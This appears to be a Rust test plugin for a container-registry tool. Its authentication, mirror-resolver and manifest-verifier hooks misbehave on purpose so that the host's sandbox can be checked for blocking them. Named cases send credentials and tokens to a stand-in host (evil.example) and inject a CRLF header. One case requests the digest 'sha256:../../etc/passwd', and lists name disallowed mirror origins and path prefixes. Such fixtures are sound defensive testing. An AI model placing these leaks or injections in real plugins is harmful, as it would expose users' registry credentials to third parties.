//! Registry authentication that sends what it holds to whom it is not for, and names mirrors that were not granted.

use crate::{behave, unknown};
use davit_plugin_sdk::{
    auth::{
        Answer, Challenge, Credential, Endpoints, Error, ManifestView, RegistryAuth, Request, Resolver, Result, Secret,
        Verifier,
    },
    host::secrets,
};

struct Auth;

const VAULT: &str = "https://vault.example/collect";
/// Granted for GET alone, with a secret that is for it alone.
const READER: &str = "https://reader.example/collect";
const EVIL: &str = "https://evil.example/collect";
const REALM: &str = "https://auth.example/token";
const MIRROR: &str = "https://mirror.example";

/// What is no origin that was granted, and what is no beginning of a repository's name.
const NO_MIRRORS: [&str; 7] = [
    "https://evil.example",
    "http://mirror.example",
    "https://mirror.example:8443",
    "https://mirror.example/evil",
    "https://mirror.example@evil.example",
    "file:///etc",
    "",
];
const NO_PREFIXES: [&str; 6] = ["../other", "/other", "a/../../b", "a?b=", "a#b", "a@evil.example"];

fn offered(challenge: &Challenge) -> Result<Credential> {
    challenge.offered().ok_or_else(|| Error::NotFound("a credential".to_owned()))
}

fn send_credential(challenge: &Challenge, url: &str) -> Result<()> {
    let request = Request::new("GET", url);
    request.basic(&offered(challenge)?)?;
    request.send().map(drop)
}

fn send_credential_in_form(challenge: &Challenge, url: &str) -> Result<()> {
    let request = Request::new("POST", url);
    request.form_credential("password", &offered(challenge)?)?;
    request.send().map(drop)
}

fn send_secret(secret: &Secret, url: &str) -> Result<()> {
    let request = Request::new("GET", url);
    request.bearer(secret)?;
    request.send().map(drop)
}

/// As the realm that the challenge named gives it.
fn token() -> Result<Secret> {
    Request::new("GET", REALM).send()?.take_secret("/token")
}

fn insist(challenge: &Challenge) -> Result<()> {
    for url in [EVIL, VAULT] {
        let refused = [
            send_credential(challenge, url),
            send_credential_in_form(challenge, url),
            send_secret(&token()?, url),
            secrets::stored("evil.example").map(drop),
        ];
        drop(refused);
    }
    drop(send_secret(&secrets::named("vault-token")?, REALM));
    let readers = secrets::named("reader-token")?;
    for url in [VAULT, REALM, EVIL] {
        drop(send_secret(&readers, url));
    }
    for method in ["POST", "DELETE"] {
        drop(Request::new(method, READER).send());
    }
    send_secret(&readers, READER)
}

impl RegistryAuth for Auth {
    fn authenticate(challenge: &Challenge, answer: &Answer) -> Result<()> {
        let well = || {
            answer.anonymous();
            Ok(())
        };
        let header = |name, value| Request::new("GET", VAULT).header(name, value);
        behave(|name| match name {
            "behave" => well(),
            "undeterred-answer" => insist(challenge).and_then(|()| well()),
            "no-answer" => Ok(()),
            "bearer-of-a-password" => answer.bearer_credential(&offered(challenge)?, 60),
            "basic-of-a-token" => match secrets::stored(&challenge.registry())? {
                Some(token) => answer.basic(&token),
                None => Err(Error::NotFound("a token".to_owned())),
            },
            "stored-of-another-registry" => secrets::stored("other.example").map(drop),
            "leak-credential" => send_credential(challenge, EVIL),
            "leak-credential-to-a-granted-origin" => send_credential(challenge, VAULT),
            "leak-credential-in-form" => send_credential_in_form(challenge, VAULT),
            "leak-token" => send_secret(&token()?, EVIL),
            "leak-token-to-a-granted-origin" => send_secret(&token()?, VAULT),
            "answer-with-a-secret-of-the-site" => answer.bearer(&secrets::named("vault-token")?, 60),
            "leak-secret-to-the-realm" => send_secret(&secrets::named("vault-token")?, REALM),
            "sign-with-a-token" => token()?.hmac_sha256(b"data").map(drop),
            "header-of-the-host" => header("Authorization", "Basic Zm9v"),
            "header-of-two-lines" => header("x-a", "b\r\nhost: evil.example"),
            other => unknown(other),
        })
    }
}

impl Resolver for Auth {
    fn resolve(registry: &str, _: &str, endpoints: &Endpoints) -> Result<()> {
        let well = || endpoints.add(MIRROR, "team");
        behave(|name| match name {
            "behave" => well(),
            "undeterred-mirror" => {
                NO_MIRRORS.iter().for_each(|origin| drop(endpoints.add(origin, "")));
                NO_PREFIXES.iter().for_each(|prefix| drop(endpoints.add(MIRROR, prefix)));
                well()
            }
            "mirror-not-granted" => endpoints.add("https://evil.example", ""),
            "mirror-in-the-clear" => endpoints.add("http://mirror.example", ""),
            "mirror-at-another-port" => endpoints.add("https://mirror.example:8443", ""),
            "mirror-with-a-path" => endpoints.add("https://mirror.example/evil", ""),
            "mirror-with-a-user" => endpoints.add("https://mirror.example@evil.example", ""),
            "prefix-above" => endpoints.add(MIRROR, "../other"),
            "prefix-with-a-query" => endpoints.add(MIRROR, "team?x="),
            "million-mirrors" => (0..1_000_000).try_for_each(|_| well()),
            "ask-the-realm-of-no-challenge" => Request::new("GET", REALM).send().map(drop),
            "ask-the-registry" => Request::new("GET", &format!("https://{registry}/v2/")).send().map(drop),
            other => unknown(other),
        })
    }
}

impl Verifier for Auth {
    fn verify(manifest: &ManifestView) -> Result<()> {
        behave(|name| match name {
            "behave" => Ok(()),
            "blob-of-no-digest" => manifest.blob("sha256:../../etc/passwd").map(drop),
            "block-in-blob" => manifest.blob(&manifest.digest()).map(drop),
            "block-in-referrers" => manifest.referrers("application/x").map(drop),
            other => unknown(other),
        })
    }
}

davit_plugin_sdk::export!(registry_auth: Auth, resolver, verifier);
